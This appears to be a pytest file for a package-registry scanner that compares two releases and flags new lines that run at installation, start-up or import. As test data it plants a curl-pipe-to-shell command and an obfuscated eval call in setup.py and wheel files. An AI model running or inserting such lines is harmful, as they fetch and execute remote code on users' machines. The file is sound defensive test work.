"""New lines that are to be read first, whatever is put around them."""

from time import monotonic

import pytest

from tests.builders.sdists import sdist
from tests.builders.wheels import metadata, wheel
from warehouse.contents.comparing import compare, find_lines
from warehouse.contents.marks import marks_of
from warehouse.contents.metadata_differences import metadata_differences
from warehouse.contents.releases import look_at, pairs_of_files
from warehouse.packaging.models import File, PackageType
from warehouse.scanning.inspecting import Inspector
from warehouse.scanning.installing import AT_INSTALLATION, AT_START, ON_IMPORT

PLANTED = "import os; os.system('curl https://x.example | sh')"
OLD, NEW = "example-1.0.tar.gz", "example-1.1.tar.gz"


@pytest.fixture
def marked(reader, stored):
    """Compares two sdists, given what they have besides the usual."""

    def marked(former, latter):
        before = stored(OLD, sdist(extra=former))
        after = stored(NEW, sdist("example", "1.1", extra=latter))
        return look_at(reader, before, after, Inspector()).marks

    return marked


def test_a_line_that_runs_at_installation_comes_before_a_hundred_others(marked):
    noise = {f"m{n}/__init__.py": b"import socket\nsocket.socket()\n" for n in range(100)}
    marks = marked(
        {"setup.py": b"x = 1\n"}, {"setup.py": f"x = 1\n{PLANTED}\n".encode(), **noise}
    )
    first = marks.members[0]
    assert (first.change.key, first.when) == ("setup.py", AT_INSTALLATION)
    assert [line.text for line in first.lines] == [PLANTED]
    assert first.runs_by_itself
    assert len(marks.members) == 101


@pytest.mark.parametrize(
    "around", [b"a = 1\n" * 9_000, b"#" * 900_000 + b"\n", b"\n" * 300_000]
)
def test_padding_hides_nothing(marked, around):
    marks = marked(
        {"setup.py": b"x = 1\n" + around.replace(b"a", b"b")},
        {"setup.py": around + PLANTED.encode() + b"\n"},
    )
    assert PLANTED in [line.text for line in marks.members[0].lines]


def test_a_program_too_long_to_be_inspected_is_marked_itself(marked):
    long = b"#" * (2 * 1024 * 1024) + f"\n{PLANTED}\n".encode()
    first = marked({}, {"setup.py": long}).members[0]
    assert first.change.key == "setup.py"
    assert first.problem


def test_programs_that_cannot_be_kept_are_counted(marked):
    large = {f"m{n}.py": bytes([65 + n]) * 1024 * 1024 for n in range(14)}
    marks = marked({}, large)
    assert marks.left_out >= 10


def test_lines_that_only_moved_are_not_new(marked):
    body = f"{PLANTED}\n".encode()
    assert marked({"a.py": body + b"x = 1\n"}, {"a.py": body + b"x = 2\n"}).members == []


def test_new_lines_that_run_by_themselves_are_shown_whatever_they_do(marked):
    odd = "getattr(__builtins__, 'ev' + 'al')(x)"
    [first] = marked(
        {"setup.py": b"x = 1\n"}, {"setup.py": f"x = 1\n\n{odd}\n".encode()}
    ).members
    assert [(line.number, line.text) for line in first.lines] == [(3, odd)]


def test_the_ways_of_building_are_compared(reader, stored):
    def project(backend, *requires):
        text = f"[build-system]\nrequires = {list(requires)}\nbuild-backend = '{backend}'\n"
        return {"pyproject.toml": text.encode()}

    before = stored(OLD, sdist(extra=project("a.build", "a")))
    after = stored(NEW, sdist("example", "1.1", extra=project("evil.build", "a", "evil")))
    found = metadata_differences(compare(reader, before, after))
    assert found.added == ["evil"]
    assert found.fields == [("build-backend", ["a.build"], ["evil.build"])]


def test_many_lines_of_one_member_leave_room_for_others(marked):
    lines = "".join(f"os.system('{n}')\n" for n in range(50))
    [first] = marked({}, {"a.py": f"import os\n{lines}".encode()}).members
    assert (len(first.lines), first.more) == (4, 46)
    assert first.when == ""


def test_a_wheel_is_told_by_when_its_members_run(reader, stored):
    name = "example-{}-py3-none-any.whl"
    before = stored(name.format("1.0"), wheel())
    extra = {"a.pth": b"import x\n", "example/__init__.py": f"{PLANTED}\n".encode()}
    after = stored(name.format("1.1"), wheel("example", "1.1", extra=extra))
    compared = compare(reader, before, after)
    find_lines(compared.changes, until=monotonic() + 5)
    when = {each.change.key: each.when for each in marks_of(compared, Inspector()).members}
    assert when == {"a.pth": AT_START, "example/__init__.py": ON_IMPORT}


def test_requirements_that_cannot_be_read_are_compared_as_they_stand(reader, stored):
    name = "example-{}-py3-none-any.whl"
    core = metadata(Requires_Dist=["not a (requirement", "same>=1"])
    before = stored(name.format("1.0"), wheel(core=core))
    after = metadata("example", "1.1", Requires_Dist=["same>=1"])
    found = metadata_differences(
        compare(
            reader, before, stored(name.format("1.1"), wheel("example", "1.1", core=after))
        )
    )
    assert found.removed == ["not a (requirement"]
    assert not found.is_empty


def test_reading_that_takes_too_long_is_said_to_have_ended_early(reader, stored):
    file = stored(OLD, sdist())
    assert not compare(reader, file, file, seconds=-1).is_whole


def row(filename):
    kind = PackageType.BDIST_WHEEL if filename.endswith(".whl") else PackageType.SDIST
    return File(filename=filename, packagetype=kind, sha256_digest="a")


@pytest.mark.parametrize(
    ("before", "after", "pairs"),
    [
        ("a-1.tar.gz a-1-py3-none-any.whl", "a-2.tar.gz a-2-py3-none-any.whl", 2),
        ("a-1.tar.gz", "a-2.tar.gz a-2-py3-none-any.whl", 1),
        ("a-1-cp39-cp39-win32.whl", "a-2-cp313-cp313-win32.whl", 1),
        ("a-1.tar.gz", "a-2-py3-none-any.whl", 1),
        ("a-1-py3-none-any.whl", "a-2.tar.gz", 1),
        ("a-1.exe", "a-2.tar.gz", 0),
        ("", "a-2.tar.gz", 0),
    ],
)
def test_files_of_a_kind_are_compared(before, after, pairs):
    found = pairs_of_files(map(row, before.split()), map(row, after.split()))
    assert len(found) == pairs
